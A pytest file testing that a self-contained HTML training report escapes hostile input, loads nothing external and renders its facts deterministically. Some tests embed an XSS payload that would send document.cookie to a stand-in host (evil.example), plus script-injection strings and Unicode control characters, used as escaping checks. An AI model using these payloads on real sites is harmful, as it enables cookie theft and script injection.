"""The page as a file: parsed, complete, escaped, self-contained, and the same for the same facts."""

import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest

from headrace.reporting.facts import CURVES, Baseline, Difference, Estimate, ReportFacts
from headrace.reporting.figures import verdict
from headrace.reporting.page import render, visible, write_report

SECTIONS = (
    "pipeline",
    "loss",
    "schedules",
    "experts",
    "throughput",
    "formats",
    "gradient",
    "evaluation",
    "tasks",
    "agreement",
    "samples",
    "data",
    "configuration",
    "provenance",
    "versions",
    "again",
)
VOID = {"meta", "link", "br", "img"}


class Reader(HTMLParser):
    """Checks nesting and collects tags, ids, targets of loads, and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def values(self, attribute: str) -> list[str]:
        return [value for _, attributes in self.tags if (value := attributes.get(attribute)) is not None]


@pytest.fixture(scope="module")
def html(demo_facts: ReportFacts) -> str:
    return render(demo_facts)


def test_sections_stand_in_order(html: str) -> None:
    page = Reader(html)
    ids = page.values("id")
    assert [name for name in ids if name in SECTIONS] == list(SECTIONS)
    assert len(ids) == len(set(ids))
    assert {href[1:] for href in page.values("href") if href.startswith("#")} <= set(ids)
    assert [tag for tag, _ in page.tags if tag in ("nav", "header", "main", "footer")] == [
        "nav",
        "header",
        "main",
        "footer",
    ]


def test_nothing_is_loaded_from_anywhere(html: str) -> None:
    page = Reader(html)
    loads = (
        page.values("src")
        + page.values("href")
        + page.values("xlink:href")
        + page.values("srcset")
        + page.values("action")
    )
    assert all(target.startswith(("#", "data:")) for target in loads)
    assert not any(tag in ("script", "iframe", "object", "embed", "form", "base") for tag, _ in page.tags)
    assert not re.search(r"url\(|@import", html)
    assert not any(name.startswith("on") for _, attributes in page.tags for name in attributes)
    policy = next(
        a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"
    )
    assert policy is not None and policy.startswith("default-src 'none'")


def test_hostile_sample_is_shown_and_not_run(html: str) -> None:
    assert "<script" not in html
    assert "&lt;script&gt;fetch(" in html
    assert (
        "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\u2400\u241b[31m"
        in Reader(html).text
    )
    assert visible("a\x00\x7f\n\tb") == "a\u2400\u2421\n\tb"
    assert (
        visible("\x9b31m if \u202eb != a\u2066")
        == "\u27e8U+009B\u27e931m if \u27e8U+202E\u27e9b != a\u27e8U+2066\u27e9"
    )
    assert visible("水車 é \u0301 שלום \U0001f9d1\u200d\U0001f33e") == "水車 é \u0301 שלום \U0001f9d1\u200d\U0001f33e"


def test_hostile_words_elsewhere_stay_words(demo_facts: ReportFacts) -> None:
    attack = '"><script>alert(1)</script>'
    stage = replace(demo_facts.stages[0], made=attack, fingerprint=attack)
    facts = replace(
        demo_facts,
        title=attack,
        command=attack,
        results_folder=attack,
        stages=(stage, *demo_facts.stages[1:]),
        config={attack: {attack: attack}},
        differences=(Difference(attack, attack, attack),),
        versions={attack: attack},
    )
    page = Reader(render(facts))
    assert "script" not in {tag for tag, _ in page.tags}
    assert page.text.count(attack) >= 8


def test_equal_facts_give_equal_bytes(demo_facts: ReportFacts, html: str, tmp_path: Path) -> None:
    write_report(demo_facts, tmp_path / "report.html")
    assert (tmp_path / "report.html").read_bytes() == html.encode()
    assert [path.name for path in tmp_path.iterdir()] == ["report.html"]


def test_text_that_utf8_cannot_hold_is_replaced(demo_facts: ReportFacts, tmp_path: Path) -> None:
    write_report(replace(demo_facts, title="broken \udcff name"), tmp_path / "report.html")
    assert "broken ? name" in (tmp_path / "report.html").read_text(encoding="utf-8")


def test_figures_and_tables_are_named(html: str) -> None:
    page = Reader(html)
    drawings = [attributes for tag, attributes in page.tags if tag == "svg"]
    assert len(drawings) >= 20
    assert all(a.get("role") == "img" and len(a.get("aria-label") or "") > 10 for a in drawings)
    count = {tag: sum(t == tag for t, _ in page.tags) for tag in ("table", "caption", "figure", "figcaption")}
    assert count["table"] == count["caption"] and count["figure"] == count["figcaption"]


def test_the_numbers_are_there(html: str) -> None:
    text = " ".join(Reader(html).text.replace("\N{NO-BREAK SPACE}", " ").split())
    for words in (
        "7.71M parameters, 3.10M of them active for each token",
        "2.104 bits per byte",
        "[2.056, 2.155]",
        "4.217",
        "Vertical lines: tokens at which a phase begins, main at 60.4k, context_2x at 2M.",
        "41.3 %",
        "✓ agrees",
        "2 rows set aside: two experts tied",
        "minus bigram",
        "\N{MINUS SIGN}0.294 [\N{MINUS SIGN}0.334, \N{MINUS SIGN}0.252]",
        "✓ bit for bit",
        "3.1e\N{MINUS SIGN}72.9e\N{MINUS SIGN}8 [\N{MINUS SIGN}3.4e\N{MINUS SIGN}9, 6.1e\N{MINUS SIGN}8]",
        "0.00312\N{MINUS SIGN}0.00055 [\N{MINUS SIGN}0.0009, \N{MINUS SIGN}0.0002]",
        "one that leaves out zero is more than the choice of rows explains",
        "2.398[2.328, 2.478]",  # a baseline and its own interval
        "1.953one number",
        "xz -9 compresses it in one piece, which gives one number and no interval.",
        "the mean of the last 10 logged steps, 20,480 tokens",
        "over 64 rows of 512 tokens",
        "for information",
        "certifi",
        "≤ 0.0001",
        "exact duplicate",
        "BSD-3-Clause",
        "recipe.learning_rate.peak",
        "Ein Mühlrad – 水車",
        "fewer bits than unigram and bigram; more bits than xz -9; not told apart from trigram",
        "humanevalit runs code that the model writes, and there is no sandbox here",
        "Not measured: CMath: not in the harness.",
        "[2.542, 2.683]nonenone",  # chance, and items found in the text
        "[0.209, 0.330]0.250not looked for",
        "/results.json, of snakemake evaluate",
        'manifest.json of each stage, of snakemake --cores 2 --config experiment=demo set="recipe.learning_rate.peak',
        'evaluatesnakemake evaluate --cores 2 --config experiment=demo set="recipe.learning_rate.peak=2e-3"',
    ):
        assert words in text, words


@pytest.mark.parametrize(
    ("part", "sentence"),
    [
        ("training", "This run has not trained a model."),
        ("evaluation", "Bits per byte on held-out text were not measured."),
        ("data", "No account of the data was handed to this report."),
        ("publication", "The model was not published."),
    ],
)
def test_a_missing_part_is_said_in_a_sentence(demo_facts: ReportFacts, html: str, part: str, sentence: str) -> None:
    page = Reader(render(replace(demo_facts, **{part: None})))
    assert sentence in page.text and sentence not in Reader(html).text
    assert [name for name in page.values("id") if name in SECTIONS] == list(SECTIONS)
    assert "None" not in page.text


def test_empty_training_curves_are_said(demo_facts: ReportFacts) -> None:
    assert demo_facts.training is not None
    bare = replace(
        demo_facts.training,
        curves={},
        expert_load=None,
        mfu=None,
        gemm_peak_flops=None,
        loss_validation=None,
    )
    text = Reader(render(replace(demo_facts, training=bare, versions={}, machine={}, code={}, differences=()))).text
    for words in (
        "No loss was logged.",
        "The load of the experts was not recorded.",
        "MFU was not measured.",
        "Speed over time was not logged.",
        "The gradient norm was not logged.",
        "Packages: not recorded.",
        "Nothing differs",
    ):
        assert words in text, words


def test_values_that_are_not_finite_are_counted(demo_facts: ReportFacts) -> None:
    assert demo_facts.training is not None
    broken = {name: ((0.0, 1.0), (1.0, float("nan")), (2.0, float("inf")), (3.0, 2.0)) for name in CURVES}
    text = Reader(render(replace(demo_facts, training=replace(demo_facts.training, curves=broken)))).text
    assert "6 values were not finite and are not drawn" in text  # train, validation and MTP share the chart


def test_verdict_follows_the_paired_difference() -> None:
    model = Estimate(2.0, 1.9, 2.1)
    others = {
        "a": Baseline(2.05, Estimate(-0.05, -0.06, -0.04)),  # inside the model's own interval, and yet clearly worse
        "b": Baseline(2.3, Estimate(-0.3, -0.7, 0.1)),  # outside of it, and yet not told apart
        "c": Baseline(2.1),  # no pairs: on the bound of the model's interval
        "d": Baseline(1.5),
    }
    assert verdict(model, others) == "fewer bits than a; more bits than d; not told apart from b and c"
